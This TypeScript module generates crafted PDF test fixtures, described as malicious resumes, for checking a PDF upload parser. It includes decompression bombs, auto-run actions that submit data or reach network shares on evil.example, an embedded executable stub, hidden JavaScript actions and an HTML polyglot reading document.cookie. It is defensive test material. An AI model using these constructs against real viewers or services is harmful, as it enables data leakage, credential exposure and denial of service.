import { deflateSync } from 'node:zlib';
import { pdfFile } from './one-page-pdf';

/**
 * The crafted resumes an attacker uploads, each a real one-page PDF with one feature added (or a
 * file built to exhaust the parser). `npm run crafted-pdfs` writes them into
 * tests/fixtures/crafted-pdfs/, which a unit test keeps equal to these.
 */

/** A PDF 1.7 whose objects are one deflated object stream holding `bodies` (object 1 the catalog). */
function packedObjectsPdf(bodies: string[]): Buffer {
  let offsets = '';
  let objects = '';
  bodies.forEach((body, index) => {
    offsets += `${index + 1} ${objects.length} `;
    objects += `${body}\n`;
  });
  const packed = deflateSync(Buffer.from(offsets + objects, 'latin1'), { level: 9 });
  const number = bodies.length + 1;
  return Buffer.concat([
    Buffer.from(`%PDF-1.7\n${number} 0 obj\n`),
    Buffer.from(
      `<< /Type /ObjStm /N ${bodies.length} /First ${offsets.length} /Filter /FlateDecode /Length ${packed.length} >>\n`,
    ),
    Buffer.from('stream\n'),
    packed,
    Buffer.from('\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\nstartxref\n0\n%%EOF\n'),
  ]);
}

const catalogAndPage = [
  '<< /Type /Catalog /Pages 2 0 R >>',
  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>',
];

/** A deflated stream object's text: a dictionary's entries, then its contents. */
function deflatedStream(entries: string, contents: string): string {
  const packed = deflateSync(Buffer.from(contents, 'latin1'));
  return `<< ${entries} /Filter /FlateDecode /Length ${packed.length} >>\nstream\n${packed.toString('latin1')}\nendstream`;
}

const xfaScript =
  '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform name="form1">' +
  '<event activity="initialize"><script contentType="application/x-javascript">' +
  'xfa.host.messageBox("hello")</script></event></subform></template></xdp:xdp>';

const widget = (entries: string) =>
  `<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [72 600 300 620] /P 3 0 R ${entries} >>`;

/** Each crafted file by its fixture's name (without `.pdf`). */
export const craftedPdfs = {
  /** 16 KB whose one object stream unpacks to an array of 7.9 million numbers (16 MB). */
  'array-of-numbers': () => packedObjectsPdf([...catalogAndPage, `[${'0 '.repeat(7_900_000)}]`]),
  /** The same with empty dictionaries, which cost a parser more each. */
  'array-of-dictionaries': () => packedObjectsPdf([...catalogAndPage, `[${'<<>>'.repeat(3_900_000)}]`]),
  /**
   * Within every bound of the parse (one stream of 2 MB): half a million empty dictionaries, which
   * take pdf-lib over 64 MB of heap and a second or more. The worker's ceilings end it.
   */
  'many-dictionaries': () => packedObjectsPdf([...catalogAndPage, `[${'<<>>'.repeat(500_000)}]`]),
  'xfa-form-script': () =>
    pdfFile('Asha Rao', {
      catalog: '/AcroForm << /Fields [] /XFA 6 0 R >>',
      objects: [`<< /Length ${xfaScript.length} >>\nstream\n${xfaScript}\nendstream`],
    }),
  'xfa-form-script-deflated': () =>
    pdfFile('Asha Rao', { catalog: '/AcroForm << /Fields [] /XFA 6 0 R >>', objects: [deflatedStream('', xfaScript)] }),
  'open-submit-form': () =>
    pdfFile('Asha Rao', {
      catalog: '/OpenAction << /S /SubmitForm /F << /FS /URL /F (https://evil.example/collect) >> /Flags 4 >>',
    }),
  'open-go-to-network-share': () =>
    pdfFile('Asha Rao', {
      catalog: '/OpenAction << /S /GoToR /F (\\\\\\\\evil.example\\\\share\\\\cv.pdf) /D [0 /Fit] >>',
    }),
  'open-import-data': () =>
    pdfFile('Asha Rao', { catalog: '/OpenAction << /S /ImportData /F (\\\\\\\\evil.example\\\\share\\\\data.fdf) >>' }),
  'open-web-address': () =>
    pdfFile('Asha Rao', { catalog: '/OpenAction << /S /URI /URI (https://evil.example/opened) >>' }),
  'widget-additional-action': () =>
    pdfFile('Asha Rao', {
      catalog: '/AcroForm << /Fields [6 0 R] >>',
      page: '/Annots [6 0 R]',
      objects: [widget('/AA << /Fo << /S /URI /URI (https://evil.example/focus) >> >>')],
    }),
  'embedded-exe': () =>
    pdfFile('Asha Rao', {
      catalog: '/Names << /EmbeddedFiles << /Names [(setup.exe) 6 0 R] >> >>',
      objects: [
        '<< /Type /Filespec /F (setup.exe) /UF (setup.exe) /EF << /F 7 0 R >> >>',
        `<< /Type /EmbeddedFile /Subtype /application#2Fx-msdownload /Length 2 >>\nstream\nMZ\nendstream`,
      ],
    }),
  /** JavaScript in an object pdf-lib cannot parse and skips: a viewer that repairs may still run it. */
  'script-in-skipped-object': () =>
    pdfFile('Asha Rao', {
      catalog: '/OpenAction 6 0 R',
      objects: ['<< /S /JavaScript /JS (app.alert(1)) /Broken ] >>'],
    }),
  'script-in-object-stream': () =>
    packedObjectsPdf([
      '<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>',
      ...catalogAndPage.slice(1),
      '<< /S /JavaScript /JS (app.alert(1)) >>',
    ]),
  'script-name-escaped': () =>
    pdfFile('Asha Rao', { catalog: '/OpenAction << /S /JavaScript /J#53 (app.alert(1)) >>' }),
  'script-after-end-of-file': () =>
    Buffer.concat([
      pdfFile('Asha Rao', { catalog: '/OpenAction 6 0 R', objects: ['<< /S /GoTo /D [3 0 R /Fit] >>'] }),
      Buffer.from('6 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n'),
    ]),
  /** A real PDF whose text also reads as an HTML page with a script (a PDF/HTML polyglot). */
  'pdf-html-polyglot': () => pdfFile('<html><body><script>alert(document.cookie)</script></body></html>'),
} satisfies Record<string, () => Buffer>;

export type CraftedPdf = keyof typeof craftedPdfs;
